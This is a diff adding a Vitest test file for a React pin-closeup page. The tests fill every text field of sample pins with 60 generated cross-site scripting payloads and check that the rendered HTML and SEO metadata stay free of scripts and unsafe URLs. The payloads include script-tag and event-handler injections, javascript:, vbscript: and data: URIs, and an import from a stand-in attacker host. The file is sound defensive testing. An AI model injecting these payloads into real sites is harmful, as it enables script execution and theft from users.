@@ -1,0 +1,95 @@
+import type { Pin } from '@pegboard/types';
+import {
+  aCarouselPin,
+  anArticlePin,
+  aPin,
+  aProductPin,
+  aPromotedPin,
+  aRecipePin,
+  aStoryPin,
+} from '@pegboard/types/testing';
+import { renderToString } from 'react-dom/server';
+import { expect, test } from 'vitest';
+import { BotContent } from './seo/bot-content.tsx';
+import { closeupSeo } from './seo/index.ts';
+import { Slides } from './slides/index.ts';
+import { PinStrip } from './strips/index.ts';
+import { Closeup } from './index.ts';
+
+const SCRIPTS = ['alert(1)', 'alert`1`', 'top[8680439..toString(30)](1)', 'import("//evil.example/x.js")'];
+const AROUND = [
+  (code: string) => `<script>${code}</script>`,
+  (code: string) => `"><script>${code}</script>`,
+  (code: string) => `'><img src=x onerror=${code}>`,
+  (code: string) => `</title><svg onload=${code}>`,
+  (code: string) => `javascript:${code}`,
+  (code: string) => `java\tscript:${code}`,
+  (code: string) => ` \u0001javascript:${code}`,
+  (code: string) => `data:text/html,<script>${code}</script>`,
+  (code: string) => `" onmouseover="${code}`,
+  (code: string) => `\${${code}}{{${code}}}`,
+  (code: string) => `<!--<script>${code}//-->`,
+  (code: string) => `<a href="vbscript:${code}">x</a>`,
+  (code: string) => `]]><math><mi xlink:href="javascript:${code}">`,
+  (code: string) => `\u202e</script\u00a0><iframe srcdoc="<script>${code}</script>">`,
+  (code: string) => `red;background:url(javascript:${code})`,
+];
+const HOSTILE = AROUND.flatMap((around) => SCRIPTS.map(around));
+
+/** The same value with every text in it replaced; ids, codes and numbers stay what they are. */
+function poisoned(value: unknown, text: string, key = ''): unknown {
+  const isKept = ['id', 'entityId', 'currency', 'type', 'createdAt', 'datePublished', 'typeName'].includes(
+    key,
+  );
+  if (typeof value === 'string') return isKept ? value : text;
+  if (Array.isArray(value)) return value.map((item) => poisoned(item, text, key));
+  if (typeof value !== 'object' || value === null) return value;
+  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poisoned(item, text, name)]));
+}
+
+const PINS: Readonly<Record<string, Pin>> = {
+  image: aPin({ digitalMediaSourceType: 11, saveCount: 3 }),
+  product: aProductPin(),
+  recipe: aRecipePin(),
+  article: anArticlePin(),
+  carousel: aCarouselPin(),
+  story: aStoryPin(),
+  promoted: aPromotedPin(),
+};
+
+test('there are 60 hostile texts', () => {
+  expect(new Set(HOSTILE).size).toBe(60);
+});
+
+test.each(Object.keys(PINS))('[CU-04] no hostile text in any field of an %s pin becomes a script', (kind) => {
+  for (const text of HOSTILE) {
+    const pin = poisoned(PINS[kind], text) as Pin;
+    const html = renderToString(
+      <Closeup
+        pin={pin}
+        viewer="signed-out"
+        profileHref={(name) => `/${encodeURIComponent(name)}/`}
+        video={<Slides pin={pin} />}
+        more={<BotContent />}
+      >
+        <PinStrip title={text} pins={[pin]} captionOf={() => text} untitled={text} />
+      </Closeup>,
+    );
+    expect(html).not.toMatch(/<(?:script|iframe|math|svg onload|img src=x)/i);
+    expect(html).not.toMatch(/<a [^>]*\bhref="[^\w/]*(?:javascript|java\tscript|vbscript|data:text)/i);
+    // What stands between quotes cannot end them: they are escaped there.
+    expect(html.replaceAll(/="[^"]*"/g, '')).not.toMatch(/<[^>]*\son\w+/i);
+    expect(html).not.toContain(' style=');
+  }
+});
+
+test.each(Object.keys(PINS))('[CU-09] nor an address or a script in the head of an %s pin', (kind) => {
+  const site = { publicUrl: 'https://pegboard.example', name: 'Pegboard', untitled: 'Pin' };
+  for (const text of HOSTILE) {
+    const { canonical, jsonLd, meta } = closeupSeo(poisoned(PINS[kind], text) as Pin, site);
+    expect(canonical).toMatch(/^https:\/\/pegboard\.example\//);
+    for (const { key, content } of meta)
+      if (/^og:(?:url|image|video)$/.test(key)) expect(content).toMatch(/^https:\/\/pegboard\.example\//);
+    expect(JSON.stringify(jsonLd)).not.toMatch(/"(?:url|contentUrl|isBasedOn|item)":"(?!https?:)/);
+  }
+});
